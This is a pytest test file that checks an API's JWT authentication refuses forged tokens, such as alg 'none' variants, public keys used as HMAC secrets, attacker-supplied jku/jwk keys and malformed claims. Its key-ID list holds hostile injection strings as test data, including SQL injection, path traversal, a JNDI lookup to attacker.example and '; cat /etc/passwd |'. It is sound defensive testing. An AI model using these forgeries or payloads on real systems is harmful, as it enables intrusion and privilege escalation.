"""Tokens that somebody forged, sent to an API whose keys come from a key server over TLS."""

import base64
import hmac
import json
import time
from collections.abc import AsyncIterator, Callable, Mapping
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any, Literal

import httpx
import pytest
import trio
import trustme
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from api.app import create_app
from api.auth import Authenticator, TokenRules
from api.jwks import KeySet
from daemon.config.model import Config
from daemon.config.sections.auth import AuthConfig
from daemon.config.sections.egress import EgressConfig
from daemon.process.issuer import key_set_fetch
from tests.support.api_harness import ORG, Running, World, serving
from tests.support.issuer import (
    EC,
    ED,
    RSA,
    KeyServer,
    PrivateKey,
    a_minute_later,
    http_answer,
    jwk,
    key_server,
    token,
)

ISSUER = "https://issuer.test"
AUDIENCE = "hookd"
STRANGER = rsa.generate_private_key(65537, 2048)
NEXT = ec.generate_private_key(ec.SECP256R1())
ALGORITHMS: tuple[Literal["RS256", "ES256", "EdDSA"], ...] = ("RS256", "ES256", "EdDSA")
RULES = TokenRules(ALGORITHMS, issuer=ISSUER, audience=AUDIENCE, leeway=30)
PUBLISHED = (jwk(RSA, "rsa"), jwk(EC, "ec"), jwk(ED, "ed"))


@pytest.fixture(scope="module")
def ca() -> trustme.CA:
    return trustme.CA()


@dataclass
class Stage:
    """An API, its key server, and a client."""

    running: Running
    keys: KeySet
    server: KeyServer
    client: httpx.AsyncClient

    async def answer(self, text: str | bytes) -> httpx.Response:
        header = text if isinstance(text, bytes) else text.encode()
        return await self.client.get("/webhooks/events", headers=[(b"Authorization", b"Bearer " + header)])

    async def status(self, text: str | bytes) -> int:
        return (await self.answer(text)).status_code

    async def refuses(self, attacks: Mapping[str, str | bytes]) -> None:
        """Check that each is refused as a bad token, and that a good one still passes afterwards."""
        assert attacks
        seen = {}
        for name, text in attacks.items():
            answer = await self.answer(text)
            challenge = answer.headers.get("www-authenticate", "")
            seen[name] = (answer.status_code, 'error="invalid_token"' in challenge)
        assert seen == dict.fromkeys(attacks, (401, True))
        assert await self.status(good()) == 200


@asynccontextmanager
async def stage(ca: trustme.CA, tmp_path: Path, rules: TokenRules = RULES) -> AsyncIterator[Stage]:
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(ca_file)
    async with key_server(ca, *PUBLISHED) as server, trio.open_nursery() as nursery:
        auth = AuthConfig(algorithms=ALGORITHMS, jwks_url=server.url, jwks_allow_networks=("127.0.0.0/8",))
        fetch = key_set_fetch(Config(auth=auth, egress=EgressConfig(ca_file=str(ca_file))))
        keys = KeySet(fetch, algorithms=ALGORITHMS, refresh=auth.jwks_refresh)
        await nursery.start(keys.serve)
        services = replace(World().services(), authenticator=Authenticator(rules, keys, now=time.time))
        async with (
            serving(create_app(services)) as running,
            httpx.AsyncClient(base_url=running.url, trust_env=False, timeout=30) as client,
        ):
            yield Stage(running, keys, server, client)
        nursery.cancel_scope.cancel()


def claims(**changes: Any) -> dict[str, Any]:
    standard = {"iss": ISSUER, "aud": AUDIENCE, "org_id": str(ORG), "roles": ["publisher"]}
    return {**standard, **changes}


def good(key: PrivateKey = EC, kid: str | None = "ec") -> str:
    return token(key, kid, claims())


def encoded(data: bytes | object) -> str:
    raw = data if isinstance(data, bytes) else json.dumps(data).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def by_rsa(signed: bytes) -> bytes:
    return RSA.sign(signed, padding.PKCS1v15(), hashes.SHA256())


def by_ec(signed: bytes) -> bytes:
    r, s = decode_dss_signature(EC.sign(signed, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def by_secret(secret: bytes, digest: str = "sha256") -> Callable[[bytes], bytes]:
    return lambda signed: hmac.digest(secret, signed, digest)


def made(header: bytes | object, payload: bytes | object, sign: Callable[[bytes], bytes]) -> str:
    """Return a token with this very header and payload."""
    signed = f"{encoded(header)}.{encoded(payload)}"
    return f"{signed}.{encoded(sign(signed.encode()))}"


def whole(**changes: Any) -> dict[str, Any]:
    return {"exp": int(time.time()) + 600, "sub": "someone", **claims(**changes)}


def always(signature: bytes) -> Callable[[bytes], bytes]:
    return lambda _signed: signature


unsigned = always(b"")


async def test_good_tokens_of_each_kind_are_accepted(ca: trustme.CA, tmp_path: Path) -> None:
    async with stage(ca, tmp_path) as api:
        for text in (good(RSA, "rsa"), good(EC, "ec"), good(ED, "ed"), good(RSA, None), good(ED, None)):
            assert await api.status(text) == 200
        # The tools of the attacks below make good tokens where nothing is wrong.
        assert await api.status(made({"alg": "RS256", "kid": "rsa"}, whole(), by_rsa)) == 200
        assert await api.status(made({"alg": "ES256", "kid": "ec"}, whole(), by_ec)) == 200
        assert len(api.server.fetches) == 1


async def test_no_signature_is_no_signature_however_it_is_spelt(ca: trustme.CA, tmp_path: Path) -> None:
    spellings: list[Any] = [
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        " none",
        "none\u0000",
        "n\u043ene",
        "",
        None,
        False,
        0,
    ]
    attacks: dict[str, str | bytes] = {}
    spellings += [[], ["none"], {}, ["RS256", "none"]]
    for alg in spellings:
        for kid in ({}, {"kid": "rsa"}):
            header = {"alg": alg, "typ": "JWT", **kid}
            attacks[f"{alg!r} {kid} without a signature"] = made(header, whole(), unsigned)
            attacks[f"{alg!r} {kid} with one"] = made(header, whole(), by_rsa)
    attacks["no alg"] = made({"typ": "JWT"}, whole(), by_rsa)
    for alg in RULES.algorithms:
        attacks[f"{alg} with nothing"] = made({"alg": alg}, whole(), unsigned)
    attacks["two algs, the last none"] = made(b'{"alg":"RS256","alg":"none"}', whole(), unsigned)
    attacks["two algs, the first none"] = made(b'{"alg":"none","alg":"RS256"}', whole(), unsigned)
    attacks["ALG"] = made({"ALG": "RS256", "alg": "none"}, whole(), by_rsa)
    async with stage(ca, tmp_path) as api:
        await api.refuses(attacks)


def public_forms(key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey, kid: str) -> dict[str, bytes]:
    """Return what somebody may have made a secret of, who only knows the public key."""
    public = key.public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    shown = jwk(key, kid)
    forms = {
        "PEM": pem,
        "PEM without its last line break": pem.rstrip(),
        "PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(shown).encode(),
        "JWK, compact": json.dumps(shown, separators=(",", ":")).encode(),
        "JWK, sorted": json.dumps(shown, sort_keys=True, separators=(",", ":")).encode(),
        "empty": b"",
        "kid": kid.encode(),
    }
    if isinstance(key, rsa.RSAPrivateKey):
        pkcs1 = PublicFormat.PKCS1
        forms["PKCS1 PEM"] = key.public_key().public_bytes(Encoding.PEM, pkcs1)
        forms["PKCS1 DER"] = key.public_key().public_bytes(Encoding.DER, pkcs1)
        forms["n"] = shown["n"].encode()
        forms["n, raw"] = base64.urlsafe_b64decode(shown["n"] + "==")
    else:
        forms["point"] = key.public_key().public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
        forms["x"] = shown["x"].encode()
    return forms


async def test_a_public_key_is_never_a_secret(ca: trustme.CA, tmp_path: Path) -> None:
    attacks: dict[str, str | bytes] = {}
    for key, kid, own in ((RSA, "rsa", "RS256"), (EC, "ec", "ES256")):
        for form, secret in public_forms(key, kid).items():
            for alg, digest in (
                ("HS256", "sha256"),
                ("HS384", "sha384"),
                ("HS512", "sha512"),
                (own, "sha256"),
            ):
                for header in ({"alg": alg, "kid": kid}, {"alg": alg}):
                    text = made(header, whole(), by_secret(secret, digest))
                    attacks[f"{form} of {kid} by {header}"] = text
    async with stage(ca, tmp_path) as api:
        await api.refuses(attacks)


async def test_a_symmetric_key_in_the_set_checks_nothing(ca: trustme.CA, tmp_path: Path) -> None:
    secret = b"a secret of thirty-two bytes that leaked"
    async with stage(ca, tmp_path) as api:
        api.server.publish(
            *PUBLISHED,
            {"kty": "oct", "kid": "leaked", "alg": "HS256", "k": encoded(secret)},
            {"kty": "oct", "kid": "posing", "alg": "RS256", "k": encoded(secret)},
        )
        a_minute_later(api.keys)
        attacks = {
            f"{alg} {kid}": made({"alg": alg, "kid": kid}, whole(), by_secret(secret))
            for alg in ("HS256", *RULES.algorithms)
            for kid in ("leaked", "posing")
        }
        await api.refuses(attacks)
        assert len(api.server.fetches) == 2


async def test_tokens_do_not_bring_their_keys_along(ca: trustme.CA, tmp_path: Path) -> None:
    certificate = encoded(b"certificate")

    def signed(**header: object) -> str:
        key, kid = (RSA, "rsa") if header.pop("honest", False) else (STRANGER, header.pop("kid", "rsa"))
        sign = key.sign
        full = {"alg": "RS256", "typ": "JWT", "kid": kid, **header}
        return made(full, whole(), lambda data: sign(data, padding.PKCS1v15(), hashes.SHA256()))

    async with key_server(ca, jwk(STRANGER, "rsa"), jwk(STRANGER, "mine")) as attacker:
        bringing: dict[str, dict[str, object]] = {
            "jwk": {"jwk": jwk(STRANGER, "rsa")},
            "jwk, symmetric": {"jwk": {"kty": "oct", "k": "AAAA"}},
            "jku": {"jku": attacker.url},
            "jku, like ours": {"jku": f"{attacker.url}#{ISSUER}"},
            "x5u": {"x5u": attacker.url},
            "x5c": {"x5c": [certificate]},
            "all": {"jwk": jwk(STRANGER), "jku": attacker.url, "x5u": attacker.url, "x5c": [certificate]},
            "empty jwk": {"jwk": None},
            "crit": {"crit": ["jku"], "jku": attacker.url},
            "crit, empty": {"crit": []},
            "b64": {"b64": False, "crit": ["b64"]},
            "zip": {"zip": "DEF"},
        }
        attacks: dict[str, str | bytes] = {"a stranger's key": signed(), "its name": signed(kid="mine")}
        for name, header in bringing.items():
            attacks[f"{name}, a stranger's signature"] = signed(**header)
            attacks[f"{name}, its kid"] = signed(**header, kid="mine")
            # Even with a good signature: nothing that follows such a header is to be trusted.
            attacks[f"{name}, a good signature"] = signed(**header, honest=True)
        async with stage(ca, tmp_path) as api:
            await api.refuses(attacks)
        assert attacker.fetches == []


KIDS = [
    "",
    " rsa",
    "rsa ",
    "RSA",
    "rsa\u0000",
    "rs\u0430",
    "ec",
    "*",
    "..",
    "../../../../../../dev/null",
    "/dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fdev%2fnull",
    "file:///dev/null",
    "https://attacker.example/key.pem",
    "rsa/../rsa",
    "' OR '1'='1",
    "x' UNION SELECT 'AAAA' -- ",
    "rsa'; drop table hookd.event; --",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "; cat /etc/passwd |",
    "$(sleep 10)",
    "%s%s%s%n",
    "rsa\r\nX-Role: platform",
    "__proto__",
    "constructor",
    "\ud800",
    "\uff52\uff53\uff41",
    "k" * 3000,
]


async def test_the_name_of_a_key_is_compared_and_nothing_else(ca: trustme.CA, tmp_path: Path) -> None:
    attacks: dict[str, str | bytes] = {}
    for kid in KIDS:
        header = {"alg": "RS256", "kid": kid}
        attacks[f"{kid!r}"] = made(header, whole(), by_rsa)
        for secret in (b"", b"\0", b"AAAA", b"2"):
            attacks[f"{kid!r} and the secret {secret!r}"] = made(
                {**header, "alg": "HS256"}, whole(), by_secret(secret)
            )
    for other in (5, 0, True, 1e400, [], ["rsa"], {}, {"kid": "rsa"}, None):
        attacks[f"{other!r}"] = made({"alg": "RS256", "kid": other}, whole(), by_rsa)
    async with stage(ca, tmp_path) as api:
        await api.refuses(attacks)
        assert len(api.server.fetches) == 1


async def test_a_key_is_for_its_own_algorithm(ca: trustme.CA, tmp_path: Path) -> None:
    def ed(signed: bytes) -> bytes:
        return ED.sign(signed)

    signers: dict[str, Callable[[bytes], bytes]] = {"rsa": by_rsa, "ec": by_ec, "ed": ed}
    right = {"rsa": "RS256", "ec": "ES256", "ed": "EdDSA"}
    attacks: dict[str, str | bytes] = {}
    for signer, sign in signers.items():
        for kid in right:
            for alg in (*RULES.algorithms, "RS384", "RS512", "PS256", "ES384", "ES256K", "Ed25519", "RS1"):
                if (signer, alg) != (kid, right[kid]):
                    attacks[f"{signer} as {kid} by {alg}"] = made({"alg": alg, "kid": kid}, whole(), sign)
    async with stage(ca, tmp_path) as api:
        await api.refuses(attacks)


async def test_broken_signatures_are_refused(ca: trustme.CA, tmp_path: Path) -> None:
    header = {"alg": "ES256", "kid": "ec"}
    signature = good().split(".")[2]
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    signatures = {
        "zeros": bytes(64),
        "ones": b"\xff" * 64,
        "r and s of the order": order.to_bytes(32, "big") * 2,
        "r of one, s of nothing": (1).to_bytes(32, "big") + bytes(32),
        "short": by_ec(b"x")[:63],
        "one byte": b"\0",
        "long": by_ec(b"x") + b"\0",
        "of something else": by_ec(b"something else"),
        "huge": bytes(3000),
    }
    attacks: dict[str, str | bytes] = {
        name: made(header, whole(), always(value)) for name, value in signatures.items()
    }
    attacks["DER"] = made(header, whole(), lambda signed: EC.sign(signed, ec.ECDSA(hashes.SHA256())))
    attacks["of another token"] = f"{encoded(header)}.{encoded(whole(org_id='x'))}.{signature}"
    head, body, _ = good().split(".")
    attacks["another payload"] = f"{head}.{encoded(whole(roles=['platform']))}.{signature}"
    attacks["another header"] = f"{encoded({**header, 'typ': 'at+jwt'})}.{body}.{signature}"
    for name, value in (("zeros", bytes(256)), ("ones", b"\1" * 256), ("short", by_rsa(b"x")[:255])):
        text = made({"alg": "RS256", "kid": "rsa"}, whole(), always(value))
        attacks[f"RSA, {name}"] = text
    attacks["Ed25519, zeros"] = made({"alg": "EdDSA", "kid": "ed"}, whole(), always(bytes(64)))
    async with stage(ca, tmp_path) as api:
        await api.refuses(attacks)


async def test_claims_that_do_not_hold_are_refused(ca: trustme.CA, tmp_path: Path) -> None:
    now = int(time.time())
    changes: dict[str, dict[str, Any]] = {
        "expired": {"exp": now - 60},
        "expired long ago": {"exp": 1},
        "expired, negative": {"exp": -1},
        "no exp": {"exp": None},
        "exp a text": {"exp": "never"},
        "exp a list": {"exp": [now + 600]},
        "exp true": {"exp": True},
        "not yet valid": {"nbf": now + 600},
        "nbf a text": {"nbf": "now"},
        "issued in the future": {"iat": now + 600},
        "no sub": {"sub": None},
        "sub empty": {"sub": ""},
        "other issuer": {"iss": "https://evil.test"},
        "issuer with a slash": {"iss": ISSUER + "/"},
        "issuer in capitals": {"iss": ISSUER.upper()},
        "issuer's beginning": {"iss": ISSUER[:-1]},
        "issuers": {"iss": [ISSUER]},
        "no issuer": {"iss": None},
        "other audience": {"aud": "another"},
        "other audiences": {"aud": ["another", "hookd2", "HOOKD"]},
        "no audience": {"aud": None},
        "empty audience": {"aud": []},
        "audience a number": {"aud": 5},
        "audience an object": {"aud": {"hookd": True}},
        "no organisation": {"org_id": None},
        "organisation no UUID": {"org_id": "' OR 1=1"},
        "organisations": {"org_id": [str(ORG)]},
        "roles a number": {"roles": 1},
        "roles an object": {"roles": {"org_admin": True}},
    }
    attacks: dict[str, str | bytes] = {}
    for name, change in changes.items():
        full = {key: value for key, value in {**whole(), **change}.items() if value is not None}
        attacks[name] = made({"alg": "ES256", "kid": "ec"}, full, by_ec)
    for name, payload in {
        "infinite exp": b'{"exp":1e999,"sub":"a"}',
        "NaN exp": b'{"exp":NaN,"sub":"a"}',
        "sub null": json.dumps({**whole(), "sub": None}).encode(),
        "sub a number": json.dumps({**whole(), "sub": 7}).encode(),
        "a list": b"[]",
        "a text": b'"x"',
        "null": b"null",
        "nothing": b"",
        "no JSON": b"{",
        "no UTF-8": b'{"sub":"\xff"}',
        "a huge number": b'{"exp":' + b"9" * 5000 + b"}",
        "deep": b"[" * 3000,
    }.items():
        attacks[name] = made({"alg": "ES256", "kid": "ec"}, payload, by_ec)
    async with stage(ca, tmp_path) as api:
        await api.refuses(attacks)


async def test_tokens_that_hold_tokens_are_refused(ca: trustme.CA, tmp_path: Path) -> None:
    inner = good()
    header = {"alg": "ES256", "kid": "ec"}
    jwe = {"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "rsa"}
    five = ".".join([encoded(jwe), encoded(b"key"), encoded(b"iv"), encoded(inner.encode()), encoded(b"tag")])
    attacks: dict[str, str | bytes] = {
        "JWE": five,
        "JWE, direct": five.replace(encoded(jwe), encoded({"alg": "dir", "enc": "A128GCM"})),
        "JWE with three parts": ".".join([encoded(jwe), encoded(inner.encode()), encoded(b"tag")]),
        "a signed header with enc": made({**header, "enc": "A256GCM"}, whole(), by_ec),
        "JWT in JWT": made(header, inner.encode(), by_ec),
        "JWT in JWT, said so": made({**header, "cty": "JWT"}, inner.encode(), by_ec),
        "JWT in JWT in JWT": made(header, made(header, inner.encode(), by_ec).encode(), by_ec),
        "cty on claims": made({**header, "cty": "JWT"}, whole(), by_ec),
        "cty in small letters": made({**header, "cty": "jwt"}, whole(), by_ec),
        "JSON serialization": json.dumps(
            dict(zip(("protected", "payload", "signature"), inner.split("."), strict=True))
        ),
        "a JSON text": json.dumps(inner),
        "a token within none": made({"alg": "none"}, inner.encode(), unsigned),
    }
    async with stage(ca, tmp_path) as api:
        await api.refuses(attacks)


async def test_what_is_no_token_or_too_much_of_one_is_refused(ca: trustme.CA, tmp_path: Path) -> None:
    text = good()
    head, body, signature = text.split(".")
    huge = made({"alg": "ES256", "kid": "ec"}, whole(more="x" * 8000), by_ec)
    attacks: dict[str, str | bytes] = {
        "dots": b"..",
        "many dots": b"." * 5000,
        "one part": head,
        "two parts": f"{head}.{body}",
        "four parts": f"{text}.{signature}",
        "a part twice": f"{head}.{body}.{body}.{signature}",
        "the token twice": text + text,
        "two tokens": f"{text} {text}",
        "two tokens with a comma": f"{text},{text}",
        "a dot at the end": text + ".",
        "a dot at the start": "." + text,
        "parts swapped": f"{body}.{head}.{signature}",
        "header twice": f"{head}.{head}.{signature}",
        "no header": f".{body}.{signature}",
        "no payload": f"{head}..{signature}",
        "no signature": f"{head}.{body}.",
        "padding": f"{head}==.{body}.{signature}x",
        "no base64": f"{head}.{body}.!!!!",
        "no base64 header": f"%%%.{body}.{signature}",
        "one letter": f"{head}.{body}.A",
        "garbage": encoded(bytes(range(256))) + "." + body + "." + signature,
        "no ASCII": text.encode() + b"\xe9",
        "UTF-8": f"{text}é",
        "huge": huge,
        "huge garbage": b"A" * 15_000,
        "huge, with dots": b"A" * 4000 + b"." + b"A" * 4000 + b"." + b"A" * 4000,
        "a deep header": encoded(b"[" * 4000) + ".e30.e30",
        "a header that is no object": made(["ES256"], whole(), by_ec),
        "a header that is a text": made("ES256", whole(), by_ec),
        "a header that is null": made(None, whole(), by_ec),
        "a header with a huge number": made(b'{"alg":' + b"9" * 5000 + b"}", whole(), by_ec),
        "a header that is no UTF-8": made(b'{"alg":"\xff"}', whole(), by_ec),
    }
    async with stage(ca, tmp_path) as api:
        await api.refuses(attacks)
        assert await api.status(b"A" * 100_000) == 431  # no header field may be so long
        for nothing in ("Bearer", "Bearer ", "Bearer    ", "Bearer \t "):
            raw = await (await api.running.connect()).get("/webhooks/events", f"Authorization: {nothing}")
            assert (raw.status, 'error="invalid_token"' in raw.headers["www-authenticate"]) == (401, True)
        twice = [("Authorization", f"Bearer {text}")] * 2
        assert (await api.client.get("/webhooks/events", headers=twice)).status_code == 401
        assert (await api.client.get("/webhooks/events")).status_code == 401
        for elsewhere in (f"?access_token={text}", f"?token={text}"):
            assert (await api.client.get(f"/webhooks/events{elsewhere}")).status_code == 401


async def test_a_name_is_needed_where_several_keys_could_be_meant(ca: trustme.CA, tmp_path: Path) -> None:
    async with stage(ca, tmp_path) as api:
        assert await api.status(good(EC, None)) == 200
        api.server.publish(*PUBLISHED, jwk(NEXT, "next"))
        a_minute_later(api.keys)
        assert await api.status(good(NEXT, "next")) == 200
        await api.refuses({"one of two": good(EC, None), "the other": good(NEXT, None)})


async def test_a_flood_of_unknown_keys_reaches_the_key_server_once_a_minute(
    ca: trustme.CA, tmp_path: Path
) -> None:
    async with stage(ca, tmp_path) as api:
        seen: list[int] = []

        async def flood(caller: int) -> None:
            for number in range(20):
                seen.append(await api.status(good(NEXT, f"unknown {caller} {number}")))

        async def all_at_once() -> None:
            async with trio.open_nursery() as nursery:
                for caller in range(10):
                    nursery.start_soon(flood, caller)

        await all_at_once()
        assert len(api.server.fetches) == 1
        a_minute_later(api.keys)
        await all_at_once()
        assert len(api.server.fetches) == 2
        assert seen == [401] * 400
        assert await api.status(good()) == 200


async def test_keys_change_and_the_key_server_goes_away_without_a_good_token_refused(
    ca: trustme.CA, tmp_path: Path
) -> None:
    async with stage(ca, tmp_path) as api:
        assert await api.status(good()) == 200
        api.server.publish(*PUBLISHED, jwk(NEXT, "next"))
        assert await api.status(good(NEXT, "next")) == 401  # the minute is not over
        a_minute_later(api.keys)
        assert [await api.status(good(NEXT, "next")), await api.status(good())] == [200, 200]

        garbage = [b"<html>", b'{"keys":[]}', b" " * 300_000, b'{"keys":[{"kty":"oct","k":"AAAA"}]}']
        outages = [
            None,
            *(http_answer(body) for body in garbage),
            http_answer(b"", "500 Internal Server Error"),
        ]
        for outage in outages:
            api.server.down, api.server.answer = outage is None, outage or b""
            before = len(api.server.fetches)
            a_minute_later(api.keys)
            assert await api.status(good(STRANGER, "rsa")) == 401
            assert await api.status(good(STRANGER, "unknown")) == 401  # waits for the fetch that fails
            assert [await api.status(good(NEXT, "next")), await api.status(good())] == [200, 200]
            assert len(api.server.fetches) == before + 1

        api.server.down = False
        api.server.publish(jwk(NEXT, "next"))
        a_minute_later(api.keys)
        assert await api.status(good(NEXT, "unknown")) == 401
        assert [await api.status(good(NEXT, "next")), await api.status(good())] == [200, 401]


async def test_roles_may_stand_deep_or_as_a_scope(ca: trustme.CA, tmp_path: Path) -> None:
    event = {"type": "match.proposed", "data": {}}
    places: dict[str, dict[str, Any]] = {
        "scope": {"scope": "openid publisher  profile"},
        "realm_access.roles": {"realm_access": {"roles": ["offline_access", "publisher"]}},
        "resource_access.hookd.scope": {"resource_access": {"hookd": {"scope": "publisher"}}},
        "https://hookd.test/roles": {"https://hookd.test/roles": ["publisher"]},
    }
    for name, place in places.items():
        rules = replace(RULES, roles_claim=name, org_claim="tenant.id")
        async with stage(ca, tmp_path, rules) as api:
            for given, expected in ((place, 202), ({"roles": ["publisher"]}, 403)):
                full = {**claims(org_id=None, roles=None), "tenant": {"id": str(ORG)}, **given}
                headers = {"Authorization": f"Bearer {token(EC, 'ec', full)}"}
                answer = await api.client.post("/events", json=event, headers=headers)
                assert (name, answer.status_code) == (name, expected)
